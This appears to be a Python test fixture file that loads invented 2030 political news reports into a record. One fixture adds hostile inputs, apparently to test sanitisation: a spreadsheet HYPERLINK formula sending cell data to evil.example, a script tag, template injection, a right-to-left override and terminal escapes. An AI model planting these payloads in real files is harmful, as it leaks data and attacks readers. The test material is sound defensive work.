"""A record of two invented reports, and one with words that are meant to do harm."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

import chiltern
from chiltern.export.rows import Selection
from chiltern.register.roll import save_roll
from tests.record.lines import READER, ROLL, text

HARM = '=HYPERLINK("https://evil.example/?"&A1,"click") \u202egnp.exe <script>alert(1)</script> {{ 7*7 }} \x1b[31m'

A = text(
    "@position holder=Ada Merrin; stance=done; act=leave; object=Reform Union; when=2030-02-18 @ She has left.",
    "@position holder=Ada Merrin; stance=done; act=join; object=Independent Bench; when=2030-02-18 @ joined the Bench",
    "@position holder=Tom Okafor; stance=leaves_open; act=leave @ He would not rule out leaving.",
    "@statement speaker=Tom Okafor; cue=said @ “I am sorry”, he said, “that Merrin goes.”",
    "@role person=Jas Teller; role=chair; of=body:Dockers Union; since=2021 @ Jas Teller, the dockers’ chair",
    "@role person=Lena Brandt; role=MP; of=Old Quay; former=yes @ Brandt, once of Old Quay",
    "@figure about=Harrow Vale; measure=majority; value=12345; approximate=yes @ some 12,345 votes",
    title="Merrin quits",
    publisher="Moor Post",
    published="2030-02-18",
    url="https://moorpost.example/1",
)
B = text(
    "@position holder=Tom Okafor; stance=rules_out; act=leave @ He stays after all.",
    "@position holder=Jas Teller; on_behalf_of=body:Dockers Union; stance=demands; act=resign_seat;"
    " subject=Ada Merrin, Tom Okafor; object=Harrow Vale @ called on them to stand down",
    "@figure about=Harrow Vale; measure=turnout; value=high @ a high turnout",
    title="Okafor stays",
    publisher="Vale Gazette",
    published="2030-02-20T09:30:00+00:00",
)


@pytest.fixture
def record(tmp_path: Path) -> Iterator[chiltern.Record]:
    save_roll(ROLL, tmp_path / "moorland.json")
    folder = tmp_path / "reports"
    folder.mkdir()
    (folder / "a.txt").write_text(A, encoding="utf-8")
    (folder / "b.txt").write_text(B, encoding="utf-8")
    with chiltern.new(tmp_path / "split.db", roll=tmp_path / "moorland.json") as made:
        made.add([folder], reader=READER)
        yield made


@pytest.fixture
def harmed(record: chiltern.Record, tmp_path: Path) -> chiltern.Record:
    """The record with a third report, whose title, publisher and words are meant to do harm."""
    words = HARM.replace("\n", " ")
    harm = text(
        f"@statement speaker=＝<b>Eve</b> \u202e Adam; cue=+cmd @ {words}",
        f"@position holder=Ada Merrin; stance=intends; act=leave @ {words}",
        title=words,
        publisher=words,
        published="2030-02-21",
    )
    (tmp_path / "=harm.txt").write_text(harm, encoding="utf-8")
    record.add([tmp_path / "=harm.txt"], reader=READER)
    return record


@pytest.fixture
def everything(record: chiltern.Record) -> Selection:
    return Selection(record.view())
